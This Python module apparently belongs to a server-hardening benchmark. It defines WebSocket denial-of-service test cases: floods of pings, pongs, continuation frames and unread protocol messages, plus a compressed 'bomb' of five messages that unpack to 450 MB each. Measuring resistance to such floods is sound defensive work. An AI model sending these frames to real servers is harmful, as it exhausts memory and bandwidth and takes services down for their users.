"""A6: WebSocket frames that cost more than they may."""

import time
import zlib
from collections.abc import Callable
from contextlib import ExitStack
from typing import Final

from benchmarks.siege.attack import Answer, Attack, Outcome, Run, Victim
from benchmarks.siege.client import connected, wait_until_closed
from benchmarks.siege.websocket import CONTINUATION, PING, PONG, TEXT, frame, open_websocket

_MEGABYTE: Final = 1 << 20


def _flood(piece: bytes, seconds: float = 6.0, *, first: bytes = b"") -> Run:
    """Return an attack that sends frames for some seconds and reads nothing."""

    def run(victim: Victim) -> Outcome:
        with connected(victim, receive_buffer=4_096) as connection:
            top = open_websocket(connection)
            sent = 0
            end = time.monotonic() + seconds
            note = "open"
            try:
                connection.sendall(first)
                connection.settimeout(2)
                while time.monotonic() < end:
                    connection.sendall(piece)
                    sent += len(piece)
            except TimeoutError:
                note = "held back"
            except OSError as error:
                note = type(error).__name__
        return Outcome([_handshake(top, note)], figures=[f"{sent / _MEGABYTE:.1f} MB sent"])

    return run


def _handshake(top: bytes, note: str) -> Answer:
    status = int(top.split(b" ", 2)[1]) if top else None
    return Answer(status, note=note)


def _bomb(megabytes: int, count: int) -> Run:
    """Return an attack of messages that are small until they are unpacked."""

    def run(victim: Victim) -> Outcome:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = packer.compress(b" " * (megabytes * _MEGABYTE)) + packer.flush(zlib.Z_SYNC_FLUSH)
        bomb = frame(TEXT, data[:-4], compressed=True)
        with ExitStack() as stack:
            note = ""
            for _ in range(count):
                connection = stack.enter_context(connected(victim))
                top = open_websocket(connection, deflate=True)
                connection.sendall(bomb)
                closed = wait_until_closed(connection, 5)
                note = "open" if closed is None else "closed"
        agreed = b"permessage-deflate" in top
        return Outcome([_handshake(top, note)], figures=["deflate" if agreed else "no compression"])

    return run


_PING: Final = frame(PING)
_SUBSCRIBE: Final = b'{"type":"subscribe","id":"%d","payload":{"query":"{ __typename }"}}'


def _operations() -> bytes:
    return b"".join(frame(TEXT, _SUBSCRIBE % number) for number in range(2_000))


def _pings_of_protocol() -> bytes:
    return frame(TEXT, b'{"type":"ping"}') * 2_000


def _attack(key: str, title: str, run: Callable[[Victim], Outcome]) -> Attack:
    return Attack(f"a6-ws-{key}", title, run, seconds=30)


ATTACKS: Final = (
    _attack("pings", "empty pings", _flood(_PING * 5_000)),
    _attack(
        "full-pings", "pings of 125 bytes, pongs unread", _flood(frame(PING, b"p" * 125) * 500)
    ),
    _attack("pongs", "empty pongs", _flood(frame(PONG) * 5_000)),
    _attack(
        "continuations",
        "empty continuations",
        _flood(frame(CONTINUATION, final=False) * 5_000, first=frame(TEXT, b"", final=False)),
    ),
    _attack(
        "small-continuations",
        "continuations of a byte",
        _flood(frame(CONTINUATION, b" ", final=False) * 5_000, first=frame(TEXT, b"", final=False)),
    ),
    _attack("messages", "messages of the protocol, unread", _flood(_pings_of_protocol())),
    _attack("operations", "operations, unread", _flood(_operations())),
    _attack("big", "messages of 1 MB", _flood(frame(TEXT, b" " * _MEGABYTE))),
    _attack("bomb", "5 messages that unpack to 450 MB", _bomb(450, 5)),
)
